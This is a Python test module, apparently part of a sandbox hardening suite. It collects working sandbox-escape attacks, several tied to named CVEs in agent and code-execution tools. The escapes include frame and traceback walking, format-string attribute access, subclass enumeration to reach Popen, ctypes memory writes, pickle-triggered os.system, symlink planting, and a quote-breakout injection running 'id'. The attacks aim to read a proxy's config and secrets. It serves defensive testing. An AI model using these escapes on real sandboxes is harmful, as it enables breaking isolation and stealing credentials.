"""Programs that broke out of other sandboxes: those that trusted Python to guard itself, or cleaned up carelessly.

What they reach for is the same each time: the proxy's config, or a file of their own outside.
"""

# ruff: noqa: B018, SIM105, SIM115 - no examples to follow: they behave badly on purpose

import os
import sys

from hostile.table import attack, text
from hostile.tools import attempt, ctypes, read, secrets_in

# fmt: off


@attack()
def reaches_through_a_harmless_module(at):
    """Finds os inside of a module that is thought to be harmless (smolagents, CVE-2025-5120)."""
    import queue
    import random

    return random._os.system(f"cat {at.config} > {at.open}/{at.mark}") == 0 or queue.threading._os.popen("id").read()


@attack()
def walks_the_frames_of_a_generator(at):
    """Leaves its own frame through a generator's (RestrictedPython, CVE-2023-37271)."""
    frames = []

    def walk():
        frames.append(generator.gi_frame.f_back)
        yield

    generator = walk()
    next(generator)
    frame, found = frames[0], []
    while frame:
        found += secrets_in(repr([vars(one) for one in frame.f_globals.values() if hasattr(one, "__dict__")]))
        frame = frame.f_back
    return found or frames[0].f_builtins["open"](at.config).read()


@attack()
def walks_by_format(at):
    """Reads attributes by a format text (RestrictedPython, CVE-2023-41039; n8n, CVE-2026-0863)."""
    import json
    import logging
    import string

    walks = ["{0.Handler.__init__.__globals__[sys].modules}", "{0.os.environ}", "{1.dumps.__globals__}"]
    by_hand = string.Formatter()
    return secrets_in("".join(by_hand.format(walk, logging, json) + walk.format(logging, json) for walk in walks))


@attack()
def walks_by_an_errors_object(at):
    """Takes the object that an AttributeError holds (RestrictedPython, CVE-2024-47532)."""
    try:
        os.nothing_like_this
    except AttributeError as error:
        return getattr(error, "obj", os).popen(f"cat {at.config}").read()


@attack()
def walks_up_a_traceback(at):
    """Climbs from an error's traceback to the frames of whoever runs it (n8n, CVE-2026-0863)."""
    try:
        1 / 0
    except ZeroDivisionError as error:
        frame, found = error.__traceback__.tb_frame, []
        while frame:
            found += secrets_in(repr(dict(frame.f_globals)) + repr(dict(frame.f_locals)))
            found += [name for name in frame.f_globals if name in ("llmproxy", "config", "keeper", "settings")]
            frame = frame.f_back
        return found


@attack()
def walks_the_subclasses(at):
    """Finds a class that runs commands among all there are."""
    for one in ().__class__.__base__.__subclasses__():
        if one.__name__ in ("Popen", "_wrap_close"):
            space = one.__init__.__globals__
            run = space.get("popen") or (lambda line, run=one: run(line, shell=True, stdout=-1).stdout)
            return str(run(f"cat {at.config}").read())
    return read(at.config)


@attack(told=False, fails=True, ends=("Crashed", "SystemError", "ValueError", "TypeError"))
def runs_crafted_code(at):
    """Runs byte code that no compiler makes, which reads and writes where it likes."""
    code = (lambda: 0).__code__
    exec(code.replace(co_code=bytes([100, 255, 83, 0] * 50), co_consts=(), co_stacksize=1))
    return ctypes.cast(0xDEAD, ctypes.py_object).value


@attack()
def writes_into_the_interpreter(at):
    """Changes Python's own objects in memory, so that no check written in Python is left."""
    size = ctypes.sizeof(ctypes.c_ssize_t)
    target = ("the answer", "another")
    where = ctypes.cast(id(target) + 3 * size, ctypes.POINTER(ctypes.c_void_p))
    kept = where[0]
    where[0] = id(at.config)
    try:
        return read(target[0])
    finally:
        where[0] = kept


@attack()
def takes_the_audit_hooks_away(at):
    """Asks by the C interface, below where Python could have been told to watch."""
    libc_open = ctypes.pythonapi.PyFile_OpenCodeObject
    libc_open.restype = ctypes.py_object
    return libc_open(ctypes.py_object(at.config)).read().decode()


@attack()
def unpickles_a_command(at):
    """Has a command run by being unpickled (smolagents, CVE-2025-14931)."""
    import pickle

    class Command:
        def __reduce__(self):
            return os.system, (f"touch {at.open}/{at.mark}",)

    return pickle.loads(pickle.dumps(Command())) == 0


@attack(told=False)
def leaves_a_link_to_be_owned(at):
    """Puts links where the keeper would write its files or change owners (Judge0, CVE-2024-28185 and -28189)."""
    here = attempt(os.getcwd) or "/tmp"
    for name in ("box", "run", "script", "stdout.txt", "stderr.txt", "metadata.txt", "compile_output.txt", "input"):
        for folder in (here, os.path.dirname(here)):
            attempt(os.unlink, os.path.join(folder, name))
            attempt(os.symlink, at.canary, os.path.join(folder, name))
            attempt(os.link, at.canary, os.path.join(folder, name))


@attack()
def uses_what_was_loaded_before(at):
    """Talks through libraries that were loaded before the walls stood (dify: calls inside of what was allowed)."""
    import asyncio
    import urllib.request

    async def ask():
        return await asyncio.open_connection("127.0.0.1", at.tcp)

    talked = attempt(lambda: bool(asyncio.run(ask())))
    return talked or attempt(lambda: urllib.request.urlopen("file://" + at.config).read().decode())


@attack(told=False)
def hides_in_an_error_hook(at):
    """Hooks what Python calls at the end, to run once more when nobody looks."""
    import gc
    import weakref

    def act(*_):
        try:
            sys.stdout.write(open(at.config).read())
        except (OSError, ValueError):
            pass

    sys.excepthook = sys.unraisablehook = sys.displayhook = act
    gc.callbacks.append(act)
    keep = type("Keep", (), {})()
    weakref.finalize(keep, act)
    gc.collect()


text("breaks_out_of_quotes", "Ends the text that a careless runner would put it in.",
     '"""\n\'\'\'\n)\nimport os\nos.system("id")\n', told=False, ends=("SyntaxError",),
     tame="nothing stands around it")
text("raises_in_groups", "Confuses types by except* (RestrictedPython, CVE-2025-22153).",
     "def main(at):\n    class Group(ExceptionGroup):\n"
     "        def split(self, other):\n            return (open, open)\n"
     "    try:\n        raise Group('x', [OSError()])\n    except* OSError as found:\n"
     "        found(at['config'])\n", told=False, tame="Python looks twice by now",
     ends=("SyntaxError", "TypeError", "NameError", "Group", "Crashed"))
